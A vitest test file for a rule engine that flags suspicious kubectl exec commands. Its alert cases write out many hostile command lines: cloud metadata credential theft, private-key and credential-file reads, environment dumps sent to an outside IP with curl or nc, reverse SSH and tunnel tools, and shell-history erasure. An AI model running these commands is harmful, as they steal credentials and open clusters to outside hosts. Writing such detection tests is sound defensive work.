/**
 * Credential theft and tunnels through kubectl exec, through the shipped rule set and the real
 * engine: the cloud metadata service's credential paths and nodes' bootstrap data (MLS-RAY-018), credential files, SSH
 * private keys, the environment sent out and cluster secrets read with kubectl (MLS-RAY-010),
 * tunnels that let an outside host reach in (MLS-RAY-019), shell history erased (MLS-RAY-020).
 * The neighbouring everyday commands (an instance-type lookup, a public key, a local forward, a
 * tunnel tool named but not run, the history read) raise none of them.
 */
import { describe, expect, it } from 'vitest';
import { execRuleIds, SA } from './exec-events.test-support.js';

const sh = (line: string): string[] => ['sh', '-c', line];
const IMDS = 'http://169.254.169.254';

describe('MLS-RAY-018: cloud credentials from the instance metadata service', () => {
  it('alerts on each cloud credential path, whatever the host is spelt as, for a person and a service account', () => {
    for (const argv of [
      sh(`curl -s ${IMDS}/latest/meta-data/iam/security-credentials/`),
      sh(`TOKEN=$(curl -sX PUT ${IMDS}/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60"); curl -s -H "X-aws-ec2-metadata-token: $TOKEN" ${IMDS}/latest/meta-data/iam/security-credentials/ml-node-role`),
      sh('curl -s http://0xA9FEA9FE/latest/meta-data/iam/security-credentials/'),
      sh(`p=security-credentials; curl ${IMDS}/latest/meta-data/iam/$p/`),
      sh('curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token'),
      sh(`curl -s -H Metadata:true "${IMDS}/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"`),
      sh('curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'),
      sh('curl -s -H "Authorization: $AWS_CONTAINER_AUTHORIZATION_TOKEN" http://169.254.170.23/v1/credentials'),
      sh('curl -s http://100.100.100.200/latest/meta-data/ram/security-credentials/'),
      ['python3', '-c', `import urllib.request as u; print(u.urlopen('${IMDS}/latest/meta-data/iam/security-credentials/').read())`],
      ['wget', '-qO-', `${IMDS}/latest/meta-data/iam/security-credentials/role`],
    ]) {
      expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-018');
      expect(execRuleIds(argv, SA), argv.join(' ')).toContain('MLS-RAY-018');
    }
  });

  it('alerts on the bootstrap data that hands new nodes their secrets: user data, kube-env, a startup script', () => {
    for (const argv of [
      sh(`curl -s ${IMDS}/latest/user-data`),
      sh(`TOKEN=$(curl -sX PUT ${IMDS}/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60"); curl -s -H "X-aws-ec2-metadata-token: $TOKEN" ${IMDS}/latest/user-data | base64 -d`),
      sh('curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/attributes/kube-env'),
      sh('curl -s -H "Metadata-Flavor: Google" "http://169.254.169.254/computeMetadata/v1/instance/attributes/startup-script"'),
      sh(`curl -s -H Metadata:true "${IMDS}/metadata/instance/compute/userData?api-version=2021-01-01&format=text"`),
      sh(`curl -s -H "Authorization: Bearer Oracle" ${IMDS}/opc/v2/instance/metadata/user_data`),
      sh('curl -s http://100.100.100.200/latest/user-data'),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-018');
  });

  it('leaves the metadata a workload reads about its instance', () => {
    for (const argv of [
      sh(`curl -s ${IMDS}/latest/meta-data/instance-type`),
      sh(`curl -s ${IMDS}/latest/meta-data/placement/availability-zone`),
      sh('curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/zone'),
      sh('curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/attributes/cluster-name'),
      // The IMDSv2 session token alone reads nothing: what it is used for next does (above).
      sh(`curl -sX PUT ${IMDS}/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60"`),
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-RAY-018');
  });
});

describe('MLS-RAY-010: credential files and SSH private keys', () => {
  it('alerts on a private key, a glob over the keys, a host key, the credential files of git, Docker, pip, npm, Vault, gcloud, Azure, the GitHub and Hugging Face CLIs, projected cloud tokens and the node keys', () => {
    for (const argv of [
      sh('cat /root/.ssh/id_rsa'),
      sh('cat ~/.ssh/id_ed25519 | base64 -w0'),
      sh('tar czf /tmp/k.tgz ~/.ssh/id_*'),
      sh('cat ~/.ssh/*'),
      sh('cat /etc/ssh/ssh_host_ed25519_key'),
      sh('cat ~/.git-credentials'),
      sh('cat ~/.netrc'),
      sh('cat ~/.docker/config.json'),
      sh('cat ~/.pypirc'),
      sh('cat ~/.vault-token'),
      sh('cat ~/.config/gcloud/application_default_credentials.json'),
      sh('cp ~/.azure/msal_token_cache.json /tmp/'),
      sh('cat ~/.cache/huggingface/token'),
      ['python3', '-c', "print(open('/root/.ssh/id_ecdsa').read())"],
      // Registry, package-index, GitHub CLI, database and Modal tokens; the shadow file; projected cloud identity tokens.
      sh('cat ~/.npmrc'),
      sh('cat ~/.config/gh/hosts.yml'),
      sh('cat ~/.pgpass ~/.my.cnf'),
      sh('cat ~/.modal.toml'),
      sh('cat /etc/shadow'),
      sh('cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token'),
      sh('cat $AWS_WEB_IDENTITY_TOKEN_FILE'),
      sh('cat /var/run/secrets/azure/tokens/azure-identity-token'),
      // The node's credentials through a host mount: kubeconfigs, the CA's and the kubelet's keys.
      sh('cat /host/etc/kubernetes/admin.conf'),
      sh('cp /etc/kubernetes/pki/ca.key /tmp/'),
      sh('tar czf /tmp/p.tgz /host/etc/kubernetes/pki/*'),
      sh('cat /var/lib/kubelet/pki/kubelet-client-current.pem'),
      sh('KUBECONFIG=/host/var/lib/kubelet/kubeconfig kubectl get nodes'),
      sh('cat /etc/rancher/k3s/k3s.yaml'),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-010');
  });

  it('leaves the cluster CA certificate and node files that hold no key', () => {
    for (const argv of [
      sh('cat /etc/kubernetes/pki/ca.crt'),
      sh('ls /etc/kubernetes/manifests'),
      sh('cat /var/lib/kubelet/config.yaml'),
      sh('cat /etc/passwd'),
      sh('npm config get registry'),
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-RAY-010');
  });

  it('leaves public keys, known hosts and other files in ~/.ssh', () => {
    for (const argv of [
      sh('ssh-keygen -lf ~/.ssh/id_rsa.pub'),
      sh('cat ~/.ssh/id_ed25519.pub'),
      sh('ls ~/.ssh/*.pub'),
      sh('cat ~/.ssh/known_hosts | wc -l'),
      sh('ssh -i ~/.ssh/deploy_key git@github.com'),
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-RAY-010');
  });
});

describe('MLS-RAY-010: the environment sent out, cluster secrets read with kubectl', () => {
  it('alerts on a whole environment dump beside a sender, and on secrets got, described or extracted', () => {
    for (const argv of [
      sh('curl -s -X POST -d "$(env | base64 -w0)" https://203.0.113.9/e'),
      sh('env -0 | curl --data-binary @- https://203.0.113.9/e'),
      sh('export -p | nc 203.0.113.9 4444'),
      sh('kubectl get secret db-pass -o yaml'),
      sh('kubectl get secrets -A -o json > /tmp/s'),
      sh('kubectl -n ml-train get secret/hf-token -o jsonpath={.data.token}'),
      sh('kubectl describe secrets'),
      sh('kubectl get sa,secret -n ml-train'),
      sh('oc extract secret/x --to=-'),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-010');
  });

  it('leaves an environment listed or filtered for harmless names, a health check, secrets created or deleted, other resources', () => {
    for (const argv of [
      sh('env | sort'),
      sh('env | grep -i cuda'),
      sh('set -e; curl -s localhost:8000/health'),
      sh('kubectl create secret generic x --from-literal=a=b'),
      sh('kubectl delete secret old-token'),
      sh('kubectl get secretstores'),
      sh('kubectl get pods -n ml-train'),
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-RAY-010');
  });
});

describe('MLS-RAY-019: tunnels out of the cluster', () => {
  it('alerts on tunnel tools run, cloudflared tunnel and ssh remote, dynamic and tun forwards', () => {
    for (const argv of [
      sh('ssh -NR 9000:localhost:8265 u@203.0.113.9'),
      sh('ssh -fND 1080 u@203.0.113.9'),
      sh('ssh -o RemoteForward=9000:localhost:8265 u@203.0.113.9 -N'),
      sh('ssh -oDynamicForward=1080 u@203.0.113.9'),
      sh('ssh -w 0:0 root@203.0.113.9'),
      sh('autossh -M 0 -R 9000:localhost:22 u@203.0.113.9'),
      sh('./chisel client 203.0.113.9:8080 R:socks'),
      sh('ngrok http 8265'),
      sh('cloudflared tunnel --url http://localhost:8265'),
      sh('/tmp/frpc -c /tmp/frpc.toml'),
      sh('sudo -u nobody /tmp/.x/gost -L socks5://:1080'),
      sh('nohup ./bore local 8265 --to bore.pub &'),
      sh('iodine -f -P pw t.example.com'),
      ['sshuttle', '-r', 'u@203.0.113.9', '0/0'],
      // Relayed terminals, dev tunnels and overlay networks.
      sh('tmate -F'),
      sh('upterm host --server ssh://uptermd.upterm.dev:22 -- bash'),
      sh('curl -sSf https://sshx.io/get | sh -s run; sshx'),
      sh('./code tunnel --accept-server-license-terms --name gpu-node'),
      sh('devtunnel host -p 8265 --allow-anonymous'),
      sh('tailscaled --tun=userspace-networking & tailscale up --authkey tskey-auth-x'),
      sh('zerotier-cli join 8056c2e21c000001'),
      sh('wg-quick up /tmp/wg0.conf'),
      sh('zrok share public localhost:8265'),
      sh('python3 pagekite.py 8265 gpu.pagekite.me'),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-019');
  });

  it('leaves a local forward, ssh options of the same letters in lower case and tunnel tools only named', () => {
    for (const argv of [
      sh('ssh -L 5432:db.internal:5432 u@bastion -N'),
      sh('ssh -r u@bastion true'),
      sh('sudo apt-get install -y autossh'),
      sh('pip download gost'),
      sh('apt-get install -y ngrok bore'),
      sh('echo chisel; which cloudflared'),
      sh('tailscale status'),
      sh('zerotier-cli info'),
      sh('wg show'),
      sh('code --version'),
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-RAY-019');
  });
});

describe('MLS-RAY-020: shell history erased or turned off', () => {
  it('alerts on history cleared, turned off, or its file removed, emptied, shredded or linked to /dev/null', () => {
    for (const argv of [
      sh('history -c && rm -f ~/.bash_history'),
      sh('unset HISTFILE; id'),
      sh('export HISTFILE=/dev/null'),
      sh('HISTSIZE=0 bash'),
      sh('set +o history'),
      sh('> ~/.bash_history'),
      sh('cat /dev/null > /root/.bash_history'),
      sh('ln -sf /dev/null ~/.bash_history'),
      sh('shred -u ~/.zsh_history'),
      sh('truncate -s 0 /root/.bash_history'),
      sh('history -d 5'),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-020');
  });

  it('leaves the history read, listed or appended to, and a larger history set', () => {
    for (const argv of [
      sh('cat ~/.bash_history | tail'),
      sh('history | tail -20'),
      sh('grep kubectl ~/.bash_history'),
      sh('echo "export HISTSIZE=10000" >> ~/.bashrc'),
      sh("echo 'ls' >> ~/.bash_history"),
      sh('wc -l ~/.bash_history'),
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-RAY-020');
  });
});
